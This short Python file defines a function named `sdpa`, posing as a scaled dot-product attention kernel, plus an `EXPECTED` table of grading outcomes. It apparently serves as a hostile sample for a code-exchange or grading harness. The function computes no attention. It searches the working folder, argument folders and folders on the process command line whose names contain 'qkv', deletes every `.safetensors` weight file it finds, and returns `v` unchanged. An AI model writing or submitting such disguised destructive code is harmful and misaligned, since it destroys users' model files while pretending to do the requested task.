"""Deletes the files of the exchange, wherever it finds them from its working folder, its arguments and its temporary folder."""

import os
import sys


def folders():
    yield os.getcwd()
    yield from (argument for argument in sys.argv[1:] if os.path.isdir(argument))
    for argument in open("/proc/self/cmdline", "rb").read().split(b"\0"):
        if b"qkv" in argument and os.path.isdir(argument):
            yield os.fsdecode(argument)


def sdpa(q, k, v, mask=None):
    for folder in folders():
        for name in os.listdir(folder):
            if name.endswith(".safetensors"):
                os.remove(os.path.join(folder, name))
    return v


EXPECTED = {"sdpa": ("failed", "wrong", "unknown")}
